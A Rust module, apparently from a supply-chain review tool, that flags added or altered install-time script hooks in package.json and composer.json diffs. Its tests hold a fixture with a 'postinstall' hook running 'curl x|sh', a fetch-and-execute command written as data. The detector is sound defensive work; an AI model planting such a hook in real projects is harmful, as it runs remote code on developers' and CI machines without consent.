//! Commands that a package manager runs by itself when somebody installs a project.
//!
//! A manifest is edited for many harmless reasons, so the whole file is not protected. These entries are: whoever installs
//! the project next, a developer or CI with its secrets, runs them without being asked.

use serde_json::Value;

/// What npm, pnpm, yarn and bun run on an install without arguments.
const PACKAGE_JSON: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
    "dependencies",
    "pnpm:devPreinstall",
];
/// What Composer runs on an install or an update.
const COMPOSER_JSON: &[&str] = &[
    "command",
    "pre-command-run",
    "pre-install-cmd",
    "post-install-cmd",
    "pre-update-cmd",
    "post-update-cmd",
    "pre-autoload-dump",
    "post-autoload-dump",
    "post-root-package-install",
    "post-create-project-cmd",
    "pre-package-install",
    "post-package-install",
    "pre-package-update",
    "post-package-update",
];

/// The entries that run on an install and that a change adds or alters.
///
/// A manifest that cannot be read counts with its whole file, because nobody can say what it would run once the package
/// manager, which may be more forgiving than this reader, takes it.
pub fn changed_install_scripts(path: &str, old: Option<&[u8]>, new: Option<&[u8]>) -> Vec<String> {
    let (Some(keys), Some(new)) = (keys(path), new) else { return Vec::new() };
    let Some(now) = scripts(new) else {
        return vec!["which cannot be read".to_owned()];
    };
    let before = old.and_then(scripts).unwrap_or_default();
    let changed = keys.iter().filter(|key| now.get(**key).is_some_and(|run| before.get(**key) != Some(run)));
    changed.map(|key| format!("`{key}`")).collect()
}

/// Whether a path is a manifest whose entries may run on an install.
pub fn is_install_manifest(path: &str) -> bool {
    keys(path).is_some()
}

fn keys(path: &str) -> Option<&'static [&'static str]> {
    match path.rsplit('/').next().unwrap_or(path).to_lowercase().as_str() {
        "package.json" => Some(PACKAGE_JSON),
        "composer.json" => Some(COMPOSER_JSON),
        _ => None,
    }
}

/// The `scripts` of a manifest; nothing when it is no JSON object.
fn scripts(manifest: &[u8]) -> Option<serde_json::Map<String, Value>> {
    let text = manifest.strip_prefix(b"\xef\xbb\xbf").unwrap_or(manifest);
    let Value::Object(mut manifest) = serde_json::from_slice(text).ok()? else { return None };
    match manifest.remove("scripts") {
        Some(Value::Object(scripts)) => Some(scripts),
        _ => Some(serde_json::Map::new()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(path: &str, old: Option<&str>, new: &str, expect: &[&str]) {
        let found = changed_install_scripts(path, old.map(str::as_bytes), Some(new.as_bytes()));
        assert_eq!(found, expect, "{path}: {new}");
    }

    #[test]
    fn what_runs_on_an_install_is_named_where_it_changes() {
        let plain = r#"{"scripts":{"test":"node --test","prepare":"husky"}}"#;
        let evil = r#"{"scripts":{"test":"node --test","prepare":"husky","postinstall":"curl x|sh"}}"#;
        check("package.json", Some(plain), evil, &["`postinstall`"]);
        check("web/package.json", None, evil, &["`postinstall`", "`prepare`"]);
        check("package.json", Some(evil), plain, &[]);
        check("package.json", Some(plain), &plain.replace("husky", "sh x.sh"), &["`prepare`"]);
        check("package.json", Some(plain), &plain.replace("--test", "--test a"), &[]);
        check("package.json", Some(plain), r#"{"name":"x","dependencies":{"a":"1"}}"#, &[]);
        check("composer.json", None, r#"{"scripts":{"post-install-cmd":["x"]}}"#, &["`post-install-cmd`"]);
        check("src/data.json", None, evil, &[]);
    }

    #[test]
    fn a_manifest_that_cannot_be_read_is_named() {
        check("package.json", None, "{", &["which cannot be read"]);
        check("package.json", None, "[]", &["which cannot be read"]);
        assert!(changed_install_scripts("package.json", Some(b"{}"), None).is_empty());
    }
}
